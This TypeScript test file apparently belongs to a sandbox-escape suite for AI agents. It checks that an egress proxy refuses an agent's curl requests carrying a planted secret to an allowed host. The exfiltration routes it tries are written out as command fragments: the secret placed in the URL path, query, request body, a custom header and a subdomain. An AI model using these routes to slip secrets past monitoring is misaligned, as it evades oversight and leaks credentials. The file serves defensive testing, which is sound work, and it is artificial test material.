/** Attacks 3 and 4a of the sandbox-escape suite: a planted secret on its way to a listed host. */

import { SITES } from '../internet/internet.ts';
import { curl, type Probe, reasonOf, statusOf } from './probe.ts';
import { PLANTED_SECRET } from './web.ts';

const HARMLESS = 'an-ordinary-word';

/** The same request with a harmless word must arrive, with the secret it must not; `by` is how the refusal starts. */
const planted = (title: string, by: RegExp, command: (text: string) => string): Probe => ({
  title,
  expected: 'refused',
  run: async ({ agent, internet }) => {
    const before = (await internet.received('allowed')).length;
    const control = await agent(curl(command(HARMLESS)));
    const outcome = await agent(curl(command(PLANTED_SECRET)));
    const arrived = (await internet.received('allowed')).slice(before);
    const leaked = arrived.some((request) => JSON.stringify(request).includes(PLANTED_SECRET));
    const controlled = arrived.some((request) => JSON.stringify(request).includes(HARMLESS));
    return {
      ok: statusOf(outcome) === 403 && by.test(reasonOf(outcome)) && !leaked && statusOf(control) === 200 && controlled,
      seen: `${statusOf(outcome)} ${reasonOf(outcome)}`,
      arrived: leaked ? 'THE SECRET' : `the harmless request only (${statusOf(control)})`,
    };
  },
});

const BY_PIPELOCK = /^blocked|pipelock|DLP|dlp|secret/i;
const base = `https://${SITES.allowed}/v1`;

export const plantedSecrets: readonly Probe[] = [
  planted('a secret in the path', BY_PIPELOCK, (text) => `${base}/${text}`),
  planted('a secret in the query', BY_PIPELOCK, (text) => `'${base}/x?q=${text}'`),
  planted('a secret in the body', BY_PIPELOCK, (text) => `-d 'key=${text}' ${base}/x`),
  planted('a secret in a custom header', BY_PIPELOCK, (text) => `-H 'X-Note: ${text}' ${base}/x`),
];

export const secretAsSubdomain: Probe = {
  title: 'a secret as a sub-domain of a listed host (control: a container outside gets it there)',
  expected: 'refused',
  run: async ({ agent, internet }) => {
    const host = `${PLANTED_SECRET.toLowerCase()}.${SITES.allowed}`;
    const request = (path: string): string => `-k https://${host}/v1/${path}`;
    await internet.outsider(curl(`--connect-to ${host}:443:${SITES.allowed}:443 ${request('control-4a')}`));
    const outcome = await agent(curl(request('agent-4a')));
    const arrived = (await internet.received('allowed')).filter(({ headers }) => headers['host'] === host);
    const leaked = arrived.some(({ url }) => url === '/v1/agent-4a');
    const controlled = arrived.some(({ url }) => url === '/v1/control-4a');
    return {
      ok: statusOf(outcome) === 403 && !leaked && controlled,
      seen: `${statusOf(outcome)} ${reasonOf(outcome)}`,
      arrived: leaked ? 'THE SECRET' : `nothing (control: ${controlled ? 'arrived' : 'FAILED'})`,
    };
  },
};
